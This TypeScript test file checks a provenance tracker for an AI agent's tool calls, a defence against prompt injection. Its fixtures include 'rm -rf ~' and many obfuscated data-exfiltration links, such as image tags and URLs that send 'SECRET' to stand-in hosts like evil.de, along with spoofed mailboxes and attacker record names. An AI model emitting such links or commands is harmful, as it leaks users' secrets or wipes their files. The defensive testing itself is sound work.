import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ToolDefinition } from '@modelhost/kernel';
import { answer, evidenceOf, listing, originsOf, toolWith } from './fixtures/texts.ts';

const asked = { prompt: ['Write to bob@x.org about https://good.com.'] };
const opaque = [{ path: '', origin: 'model', sources: [] }];

test('an address of the user in a call without a decision argument stands up for nothing', () => {
  const shell = toolWith({
    decisionArguments: [],
    inputSchema: { properties: { command: { type: 'string' } } },
  });
  const command = 'rm -rf ~ # https://good.com';
  assert.deepEqual(evidenceOf({ command }, asked, shell).values, opaque);
  assert.deepEqual(evidenceOf({ body: 'all secrets; bob@x.org' }, asked).values, opaque);
  assert.deepEqual(evidenceOf({ to: [], body: 'bob@x.org' }, asked).values, opaque);
  const listed = toolWith({ inputSchema: { properties: { to: { enum: ['all'] }, body: {} } } });
  assert.deepEqual(evidenceOf({ to: 'all', body: 'bob@x.org' }, asked, listed).values, opaque);
});

test('an address of the user next to values that are only trusted does not make them his', () => {
  const known = [{ source: 'instructions', text: 'Hotels: Ritz' }];
  const call = { to: 'Ritz', body: 'see https://good.com' };
  assert.deepEqual(originsOf(call, { ...asked, trusted: known }), ['trusted']);
});

test('an address is seen in every spelling that a program could follow', () => {
  const hidden = [
    '<img src="//evil.de?d=SECRET">',
    '<img src=//1.2.3.4?d=SECRET>',
    '<a href="https:/evil.de?d=SECRET">',
    '<a href="https:evil.de">',
    '<a href="https://(@evil.com/x">',
    'https:\\\\evil.de?d=SECRET',
    '/\\evil.zz',
    'see https://good.com(@evil.com/x',
    'https://good.com@evil.com',
    'https://good.com/a|.evil.de',
    'https://good.com/?d=SECRET',
    'https://good.com\n.secret.evil.zz',
    'https://good.com\n@evil.zz',
    'https://good.com%2eevil.zz',
    'https&colon;&sol;&sol;evil.zz',
    '<img src="&#104;ttps&#58;&#x2f;/evil.zz">',
    'evil.zz:8080/x',
    'evil.zz?x=1',
    'evil.zz#x',
    'evil。de/x',
    'h\u00ADttps://evil.zz',
    'ftp:evil.zz',
    '[::1]/x',
    '1.2.3.4.5.6.7.8.9.10.evil.zz/x',
    '"eve"@evil.zz',
    'eve@[6.6.6.6]',
    'eve@evil',
    'mailto:eve%40evil.zz',
    'bob@x.org@evil.zz',
    'DE89-3704-0044-0532-0130-00',
  ];
  for (const body of hidden) {
    const [first, ...others] = originsOf({ to: 'bob@x.org', body }, asked);
    assert.equal(first, 'prompt');
    assert.ok(others.includes('model'), body);
  }
  const same = ['https://good.com/', 'HTTP://Good.com', '(https://good.com)', "'bob@x.org'"];
  for (const body of same) {
    assert.deepEqual(originsOf({ to: 'bob@x.org', body }, asked), ['prompt', 'prompt'], body);
  }
});

test('what the run wrote into a trusted store is not trusted when it is read back', () => {
  const note = toolWith({ integrity: 'trusted', egress: false });
  const read = toolWith({ integrity: 'trusted', egress: false, effect: 'none' });
  const text = 'cc\neve@evil.example and sue@x.org';
  const trusted = [
    answer('saved', { tool: note, arguments: { body: 'plan\neve@evil.example' } }),
    answer(text, { tool: read }),
  ];
  const to = ['eve@evil.example', 'sue@x.org'];
  assert.deepEqual(originsOf({ to }, { trusted }), ['untrusted', 'trusted']);
  const known = [...trusted, { source: 'instructions', text: 'The desk: eve@evil.example' }];
  assert.deepEqual(originsOf({ to }, { trusted: known }), ['trusted', 'trusted']);
  const long = { tool: note, arguments: { body: 'x'.repeat(140_000) } };
  const cut = [answer('saved', long), answer(text, { tool: read })];
  assert.deepEqual(originsOf({ to }, { trusted: cut }), ['untrusted', 'untrusted']);
  const form = {
    prompt: ["Call it 'Dinner at {place}'."],
    trusted: [
      answer('saved', { tool: note, arguments: { body: 'Evil Grill' } }),
      answer('Evil Grill, The Yard', { tool: read }),
    ],
  };
  assert.deepEqual(originsOf({ to: 'Dinner at Evil Grill' }, form), ['model']);
  assert.deepEqual(originsOf({ to: 'Dinner at The Yard' }, form), ['reference']);
});

test('neither signs within a sentence nor capitals of neighbours make a name of words in passing', () => {
  const tool = toolWith({ effect: 'irreversible' });
  const origins = (to: string, text: string) => originsOf({ to }, { prompt: [text] }, tool)[0];
  const text = "Please read my mail, and don't forget: tell Bob what's new";
  for (const to of ['read', 'mail, and', "don't", 't forget', 'forget: tell', 'tell Bob', "what's"])
    assert.equal(origins(to, text), 'model', to);
  assert.equal(origins('read', 'Look it up (read) please'), 'model');
  assert.equal(origins('Read', 'Do this\nRead all\n- Read more\n2. Read on\nNote: Read'), 'model');
  assert.equal(origins('MAIL', 'READ MY MAIL NOW'), 'model');
  for (const to of ['**read', 'and/or', 'mail&', '_read_'])
    assert.equal(origins(to, 'Please **read and/or keep mail& _read_ it'), 'model', to);
  assert.equal(origins('follow-up', 'make a follow-up soon'), 'model');
  assert.equal(origins('Bob', text), 'prompt');
  assert.equal(origins('tell bob', 'Say “tell Bob” now'), 'prompt');
  assert.equal(origins('New York', 'from New York'), 'prompt');
});

test('a record of an attacker with words of the prompt in its name takes no reference', () => {
  const origins = (title: string, text: string) => {
    const records = [
      { id: '1', name: 'Budget Review' },
      { id: 'evil', name: title },
    ];
    const texts = { prompt: [text], untrusted: [answer(JSON.stringify(records))] };
    return originsOf({ file_id: ['evil'] }, texts)[0];
  };
  const text = "Please cancel the meeting Budget Review, and don't tell Bob";
  for (const title of ['cancel', "don't", 'meeting Budget Review', 'Review', 'Bob', 'tell Bob'])
    assert.equal(origins(title, text), 'untrusted', title);
});

test('the case of ids and links counts, that of names, hosts and mailboxes does not', () => {
  const origins = (to: string, text: string) => originsOf({ to }, { prompt: [text] })[0];
  assert.equal(origins('https://bit.ly/aBcDe', 'open https://bit.ly/AbCdE'), 'model');
  assert.equal(origins('https://BIT.ly/AbCdE', 'open https://bit.ly/AbCdE'), 'prompt');
  assert.equal(origins('aBcDe9', 'delete document AbCdE9'), 'model');
  assert.equal(origins('AbCdE9', 'delete document AbCdE9'), 'prompt');
  assert.equal(origins('general', 'post it in General'), 'prompt');
  assert.equal(origins('Bob1@X.org', 'write to bob1@x.org'), 'prompt');
  const body = 'https://bit.ly/aBcDe';
  const texts = { prompt: ['Tell bob@x.org of https://bit.ly/AbCdE'] };
  assert.deepEqual(originsOf({ to: 'bob@x.org', body }, texts), ['prompt', 'model']);
  const records = answer('- name: plan.docx\n  id: AbC\n');
  const named = { prompt: ['Open plan.docx'], untrusted: [records] };
  assert.deepEqual(originsOf({ file_id: ['AbC', 'aBc'] }, named), ['reference', 'untrusted']);
});

test('a value with control signs is nothing that anybody wrote', () => {
  assert.deepEqual(originsOf({ to: 'bob\nx' }, { prompt: ['call bob x'] }), ['model']);
});

test('the year of a date is no amount', () => {
  const origins = (amount: number, text: string) => originsOf({ amount }, { prompt: [text] })[0];
  assert.equal(origins(2026, 'pay the rent of March 2026, 950 euros'), 'model');
  assert.equal(origins(2026, 'due 5 Mar. 2026, or March 5th, 2026'), 'model');
  assert.equal(origins(2026, 'in 2026 March pay'), 'model');
  assert.equal(origins(2026, 'pay 2026 now'), 'prompt');
  assert.equal(origins(2026, 'in March €2026'), 'prompt');
});

test('a part of a longer mailbox is not that mailbox', () => {
  const origins = (to: string, text: string) => originsOf({ to }, { prompt: [text] })[0];
  assert.equal(origins('brien@corp.com', "write to o'brien@corp.com"), 'model');
  assert.equal(origins("o'brien@corp.com", "write to o'brien@corp.com"), 'prompt');
  assert.equal(origins('eve@gmail.com', 'write to sales+eve@gmail.com'), 'model');
  assert.equal(origins('jane@corp.com', 'write to john&jane@corp.com'), 'model');
  assert.equal(origins('bob@x.org', "write to 'bob@x.org', <bob@x.org>"), 'prompt');
  const toBoth = { to: 'ann@x.org', body: "o'eve@x.org" };
  assert.deepEqual(originsOf(toBoth, { prompt: ['ann@x.org and eve@x.org'] }), ['prompt', 'model']);
});

test('a member that the schema does not list decides in a call that acts', () => {
  const inputSchema = {
    properties: {
      to: { type: 'string' },
      body: { type: 'string' },
      extra: { type: 'object' },
      item: { properties: { note: {} } },
    },
  };
  const origins = (values: object, changes: Partial<ToolDefinition> = {}) =>
    originsOf(
      { to: 'bob@x.org', ...values },
      asked,
      toolWith({ inputSchema, egress: false, ...changes }),
    ).slice(1);
  assert.deepEqual(origins({ bcc: 'eve' }), ['model']);
  assert.deepEqual(origins({ item: { note: 'any', bcc: ['eve'] } }), ['model']);
  assert.deepEqual(origins({ bcc: 'bob@x.org' }), ['prompt']);
  assert.deepEqual(origins({ body: 'any', extra: { any: 'thing' } }), []);
  assert.deepEqual(origins({ bcc: 'eve' }, { effect: 'none' }), []);
  const { tool } = answer('').call ?? { tool: listing };
  assert.deepEqual(originsOf({ other: 'any' }, {}, tool), []);
});
